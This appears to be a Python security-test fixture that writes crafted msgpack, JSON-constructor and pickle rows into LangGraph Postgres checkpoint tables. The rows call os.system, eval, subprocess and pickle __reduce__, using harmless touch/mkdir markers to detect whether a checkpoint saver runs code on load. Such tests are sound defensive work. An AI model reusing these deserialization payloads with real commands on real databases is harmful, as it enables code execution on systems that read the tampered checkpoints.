"""Rows that somebody wrote into the checkpoint tables, to run code in whoever reads them. Fired, they leave a mark."""

import json
import os
import pickle
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import ormsgpack
import psycopg
from psycopg.conninfo import make_conninfo

from agentcore.plain.urls import postgres_params

MODULE = "crafted_side_effect"
"""Importing it leaves a mark too."""


FIRE = ["eval", "import", "popen", "pydantic1", "pydantic2", "run", "system"]
"""Those that LangGraph's own saver, as it comes, does run."""


class Row(NamedTuple):
    name: str
    type: str
    content: bytes


class _Pickled:
    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self._path),)


def rows(marks: Path) -> Iterator[Row]:
    """Yield each way there is to name a callable; `marks/NAME` is what it leaves."""
    (marks / f"{MODULE}.py").write_text(f"import os\nos.makedirs({str(marks / 'import')!r}, exist_ok=True)\n")

    def touch(name: str) -> list[str]:
        return ["touch", str(marks / name)]

    objects: list[tuple[Any, ...]] = [
        (0, "os", "system", " ".join(touch("system"))),
        (0, "builtins", "eval", f"__import__('os').makedirs({str(marks / 'eval')!r}, exist_ok=True)"),
        (0, MODULE, "Thing", 1),
        (1, "subprocess", "run", [touch("run")]),
        (2, "subprocess", "Popen", {"args": touch("popen")}),
        (3, "pathlib", "Path", str(marks / "method"), "touch"),
        (4, "subprocess", "check_call", {"args": touch("pydantic1")}),
        (5, "subprocess", "check_call", {"args": touch("pydantic2")}, "model_validate_json"),
    ]
    packed = [ormsgpack.Ext(code, ormsgpack.packb(named)) for code, *named in objects]
    yield Row("objects", "msgpack", ormsgpack.packb({"a": packed}))
    envelopes = [
        {"lc": version, "type": "constructor", "id": id, "args": [" ".join(touch("json"))], "kwargs": {"template": "t"}}
        for version, id in [(1, ["langchain_core", "prompts", "prompt", "PromptTemplate"]), (2, ["os", "system"])]
    ]
    yield Row("envelopes", "json", json.dumps({"a": envelopes}).encode())
    yield Row("pickle", "pickle", pickle.dumps(_Pickled(marks / "pickle")))


def marks_in(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir() if not path.name.startswith((MODULE, "__pycache__")))


class Planted(NamedTuple):
    """A thread whose row, in this place, was crafted."""

    thread_id: str
    row: str
    place: str


_COPY = (
    "INSERT INTO checkpoint_blobs SELECT %(new)s, checkpoint_ns, channel, version, type, blob"
    " FROM checkpoint_blobs WHERE thread_id = %(model)s",
    "INSERT INTO checkpoint_writes (thread_id, checkpoint_ns, checkpoint_id, task_id, idx, channel, type, blob)"
    " SELECT %(new)s, checkpoint_ns, checkpoint_id, task_id, idx, channel, type, blob"
    " FROM checkpoint_writes WHERE thread_id = %(model)s",
    "INSERT INTO checkpoints (thread_id, checkpoint_ns, checkpoint_id, parent_checkpoint_id, checkpoint, metadata)"
    " SELECT %(new)s, checkpoint_ns, checkpoint_id, parent_checkpoint_id, checkpoint, metadata"
    " FROM checkpoints WHERE thread_id = %(model)s",
)
_BLOB = (
    "UPDATE checkpoint_blobs SET type = %(type)s, blob = %(content)s WHERE thread_id = %(new)s AND channel = 'anything'"
)
_PLACES = {
    "blob": _BLOB,
    "write": "INSERT INTO checkpoint_writes (thread_id, checkpoint_id, task_id, idx, channel, type, blob)"
    " SELECT %(new)s, max(checkpoint_id), 'crafted', 0, 'anything', %(type)s, %(content)s"
    " FROM checkpoints WHERE thread_id = %(model)s",
    "blob of a graph nobody has": _BLOB,
    "metadata": "UPDATE checkpoints SET metadata = metadata || jsonb_build_object('graph_id', %(plain)s::jsonb,"
    " 'more', %(plain)s::jsonb) WHERE thread_id = %(new)s",
    "checkpoint": "UPDATE checkpoints SET checkpoint = jsonb_set(checkpoint, '{channel_values,text}', %(plain)s::jsonb)"
    " WHERE thread_id = %(new)s",
}
_STRANGE = (
    """UPDATE checkpoints SET checkpoint = replace(checkpoint::text, '"hold"', '"nobody"')::jsonb"""
    " WHERE thread_id = %(new)s"
)


def plant(database: str, model: str, marks: Path) -> list[Planted]:
    """Copy the thread `model` for every row and every place it can be in, and plant it there."""
    planted = []
    with psycopg.connect(make_conninfo("", **postgres_params(database)), autocommit=True) as connection:
        for row in rows(marks):
            for place, query in _PLACES.items():
                if row.type != "json" and place in ("metadata", "checkpoint"):
                    continue
                new = f"crafted-{uuid.uuid4()}"
                plain = row.content.decode() if row.type == "json" else None
                values = {**row._asdict(), "new": new, "model": model, "plain": plain}
                with connection.transaction():
                    for each in (*_COPY, query, *([_STRANGE] if "nobody" in place else [])):
                        connection.execute(each, values)
                planted.append(Planted(new, row.name, place))
    return planted
